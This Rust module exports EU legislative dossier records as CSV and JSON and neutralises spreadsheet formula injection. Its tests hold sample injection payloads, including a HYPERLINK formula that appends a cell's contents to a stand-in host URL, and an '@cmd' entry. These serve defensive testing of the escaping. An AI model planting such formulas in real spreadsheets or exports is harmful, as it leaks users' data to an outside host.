//! The current selection of dossiers as CSV (RFC 4180) and JSON, for download.

use super::index::DossierIndex;
use super::model::{Dossier, Status, Title};
use super::reference::eur_lex_url;
use serde::Serialize;

/// One exported row: the record's facts plus what the site derives from them.
#[derive(Debug, Serialize)]
pub struct ExportRow<'a> {
    /// URL id.
    pub id: &'a str,
    /// Title as the source gives it.
    pub title: &'a str,
    /// Whether the source gives the whole title.
    pub title_note: &'static str,
    /// Common name.
    pub short_name: &'a str,
    /// Type of document.
    #[serde(rename = "type")]
    pub doc_type: &'static str,
    /// Commission reference.
    pub reference: String,
    /// Interinstitutional procedure.
    pub procedure: &'a str,
    /// Adopted act.
    pub adopted_act: String,
    /// Status key.
    pub status: &'static str,
    /// Date of the Commission document, `YYYY-MM-DD`.
    pub date: String,
    /// Parliament committees, `; `-separated.
    pub committees: String,
    /// Rapporteurs, `; `-separated.
    pub rapporteurs: String,
    /// EUR-Lex page of the Commission document.
    pub document_eur_lex: String,
    /// EUR-Lex page of the act.
    pub act_eur_lex: String,
    /// The site's sources and the public pages the record cites, `; `-separated.
    pub sources: String,
}

impl<'a> ExportRow<'a> {
    /// The row for `dossier`, with its `id` and `status`.
    pub fn new(dossier: &'a Dossier, id: &'a str, status: Status) -> ExportRow<'a> {
        let link = |celex: Option<String>| celex.map(|c| eur_lex_url(&c, "EN")).unwrap_or_default();
        let sources: Vec<&str> = dossier
            .evidence
            .iter()
            .filter_map(|e| e.source.as_deref().or(e.url.as_deref()))
            .collect();
        ExportRow {
            id,
            title: &dossier.title,
            title_note: match dossier.title() {
                Title::Full(_) => "",
                Title::CutOff(_) => "cut off by the source",
                Title::Missing => "not given by the source",
            },
            short_name: dossier.short_name.as_deref().unwrap_or_default(),
            doc_type: dossier.doc_type.map_or("", |t| t.name()),
            reference: dossier
                .reference
                .as_ref()
                .map(ToString::to_string)
                .unwrap_or_default(),
            procedure: dossier.procedure.as_deref().unwrap_or_default(),
            adopted_act: dossier.act.as_ref().map(|a| a.title()).unwrap_or_default(),
            status: status.key(),
            date: dossier.date().to_string(),
            committees: dossier.committees.join("; "),
            rapporteurs: dossier.rapporteurs.join("; "),
            document_eur_lex: link(dossier.document_celex()),
            act_eur_lex: link(dossier.act_celex()),
            sources: sources.join("; "),
        }
    }

    fn cells(&self) -> [&str; 15] {
        [
            self.id,
            self.title,
            self.title_note,
            self.short_name,
            self.doc_type,
            &self.reference,
            self.procedure,
            &self.adopted_act,
            self.status,
            &self.date,
            &self.committees,
            &self.rapporteurs,
            &self.document_eur_lex,
            &self.act_eur_lex,
            &self.sources,
        ]
    }
}

impl DossierIndex {
    /// The export rows of the dossiers at `positions`, in that order, made one at a time.
    pub fn export_rows<'a>(
        &'a self,
        positions: &'a [u32],
    ) -> impl Iterator<Item = ExportRow<'a>> + 'a {
        positions
            .iter()
            .filter_map(|&p| Some(ExportRow::new(self.get(p)?, self.id(p), self.status(p)?)))
    }
}

/// The CSV header, in the order of [`ExportRow`]'s fields.
const HEADER: [&str; 15] = [
    "id",
    "title",
    "title_note",
    "short_name",
    "type",
    "reference",
    "procedure",
    "adopted_act",
    "status",
    "date",
    "committees",
    "rapporteurs",
    "document_eur_lex",
    "act_eur_lex",
    "sources",
];

/// The byte-order mark that tells spreadsheet programs (Excel above all) that the file is UTF-8.
pub const UTF8_BOM: char = '\u{FEFF}';

/// Writes RFC 4180 CSV to `out`, piece by piece: a UTF-8 byte-order mark, a header line, then a
/// line per row, with CRLF line ends, fields quoted when they hold a comma, a quote or a line
/// break, and quotes doubled.
pub fn write_csv<'a>(rows: impl IntoIterator<Item = ExportRow<'a>>, out: &mut impl FnMut(&str)) {
    let mut line = String::from(UTF8_BOM);
    write_line(&mut line, &HEADER);
    out(&line);
    for row in rows {
        line.clear();
        write_line(&mut line, &row.cells());
        out(&line);
    }
}

fn write_line(out: &mut String, cells: &[&str]) {
    for (i, cell) in cells.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        out.push_str(&csv_field(cell));
    }
    out.push_str("\r\n");
}

/// One CSV field, quoted only when it must be. A field that a spreadsheet would read as a
/// formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage return, or their full-width
/// forms) gets a leading `'`, so that it stays text (OWASP's advice on CSV injection).
pub fn csv_field(value: &str) -> String {
    let formula = value.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']);
    let value = if formula {
        format!("'{value}")
    } else {
        value.to_owned()
    };
    if formula || value.contains([',', '"', '\r', '\n']) {
        format!("\"{}\"", value.replace('"', "\"\""))
    } else {
        value
    }
}

/// Writes the rows to `out` as a pretty-printed JSON array, one row at a time.
pub fn write_json<'a>(
    rows: impl IntoIterator<Item = ExportRow<'a>>,
    out: impl std::io::Write,
) -> serde_json::Result<()> {
    use serde::Serializer;
    serde_json::Serializer::pretty(out).collect_seq(rows)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::dossiers::model::{DossierFile, Stage};

    fn to_csv<'a>(rows: impl IntoIterator<Item = ExportRow<'a>>) -> String {
        let mut out = String::new();
        write_csv(rows, &mut |part| out.push_str(part));
        out
    }

    fn to_json<'a>(rows: impl IntoIterator<Item = ExportRow<'a>>) -> String {
        let mut out = Vec::new();
        write_json(rows, &mut out).unwrap();
        String::from_utf8(out).unwrap()
    }

    #[test]
    fn escapes_fields_per_rfc_4180() {
        assert_eq!(csv_field("plain"), "plain");
        assert_eq!(csv_field("a, b"), "\"a, b\"");
        assert_eq!(csv_field("2030 “Path” \"x\""), "\"2030 “Path” \"\"x\"\"\"");
        assert_eq!(csv_field("two\nlines"), "\"two\nlines\"");
        assert_eq!(csv_field("cr\r"), "\"cr\r\"");
        assert_eq!(csv_field(""), "");
    }

    #[test]
    fn neutralises_formulas() {
        assert_eq!(csv_field("=1+1"), "\"'=1+1\"");
        assert_eq!(csv_field("-1+1"), "\"'-1+1\"");
        assert_eq!(csv_field("@SUM(A1)"), "\"'@SUM(A1)\"");
        assert_eq!(csv_field("\tx"), "\"'\tx\"");
        assert_eq!(csv_field("＝1"), "\"'＝1\"");
        assert_eq!(csv_field("a=b"), "a=b", "only a leading sign counts");
    }

    #[test]
    fn a_csv_parser_reads_every_field_back() {
        let mut dossier = DossierFile::from_json(
            include_str!("../../public/data/dossiers.json"),
            &["001", "facts"],
        )
        .unwrap()
        .dossiers
        .remove(0);
        let hostile = [
            "=HYPERLINK(\"https://x.example/?\"&A1,\"click\")",
            "+1",
            "-1+1",
            "@cmd",
            "\tlead",
            "a, b \"c\"\r\nsecond line",
            "Dragoş Jerković “Path” ’",
        ];
        let dossiers: Vec<_> = hostile
            .iter()
            .map(|title| {
                dossier.title = (*title).to_owned();
                dossier.clone()
            })
            .collect();
        let csv = to_csv(
            dossiers
                .iter()
                .map(|d| ExportRow::new(d, "id-1", Status::Dated(Stage::InForce))),
        );
        let body = csv
            .strip_prefix(UTF8_BOM)
            .expect("the file starts with a BOM");
        let mut reader = csv::ReaderBuilder::new().from_reader(body.as_bytes());
        let title = HEADER.iter().position(|h| *h == "title").unwrap();
        let read: Vec<String> = reader
            .records()
            .map(|r| r.expect("a valid CSV record")[title].to_owned())
            .collect();
        let expected: Vec<String> = hostile
            .iter()
            .map(|t| {
                if t.starts_with(['=', '+', '-', '@', '\t']) {
                    format!("'{t}")
                } else {
                    (*t).to_owned()
                }
            })
            .collect();
        assert_eq!(read, expected);
        let headers = reader.headers().unwrap();
        assert_eq!(headers.len(), HEADER.len());
    }

    #[test]
    fn exports_the_rows_of_a_search_in_its_order() {
        let site = crate::site::fixtures::shipped_site();
        let result = site
            .dossiers
            .search(&crate::dossiers::query::ListQuery::parse(
                "status=in-force&sort=title",
            ));
        let rows: Vec<ExportRow> = site.dossiers.export_rows(&result.matches).collect();
        assert_eq!(rows.len(), result.matches.len());
        assert!(rows.iter().all(|r| r.status == "in-force"));
        let ids: Vec<&str> = result
            .matches
            .iter()
            .map(|&p| site.dossiers.id(p))
            .collect();
        assert_eq!(rows.iter().map(|r| r.id).collect::<Vec<_>>(), ids);
    }

    #[test]
    fn exports_rows_with_header_and_crlf() {
        let file = DossierFile::from_json(
            include_str!("../../public/data/dossiers.json"),
            &["001", "facts"],
        )
        .unwrap();
        let dsa = file
            .dossiers
            .iter()
            .find(|d| d.short_name.is_none() && d.title == "Digital Services Act")
            .unwrap();
        let id = dsa.id();
        let csv = to_csv([ExportRow::new(dsa, &id, Status::Dated(Stage::InForce))]);
        let lines: Vec<&str> = csv.trim_start_matches(UTF8_BOM).split("\r\n").collect();
        assert_eq!(lines.len(), 3, "header, one row, and the final line end");
        assert_eq!(lines[0], HEADER.join(","));
        assert_eq!(
            lines[1],
            "com-2020-825,Digital Services Act,,,Regulation,COM(2020)825,2020/0361(COD),Regulation (EU) 2022/2065,in-force,2020-12-15,IMCO,Christel Schaldemose,https://eur-lex.europa.eu/legal-content/EN/TXT/?uri=CELEX:52020PC0825,https://eur-lex.europa.eu/legal-content/EN/TXT/?uri=CELEX:32022R2065,facts; https://eur-lex.europa.eu/eli/reg/2022/2065/oj; https://www.europarl.europa.eu/thinktank/en/document/EPRS_ATA(2022)739227"
        );
        let json: serde_json::Value = serde_json::from_str(&to_json([ExportRow::new(
            dsa,
            &id,
            Status::Dated(Stage::InForce),
        )]))
        .unwrap();
        assert_eq!(json[0]["id"], "com-2020-825");
        assert_eq!(json[0]["type"], "Regulation");
    }
}
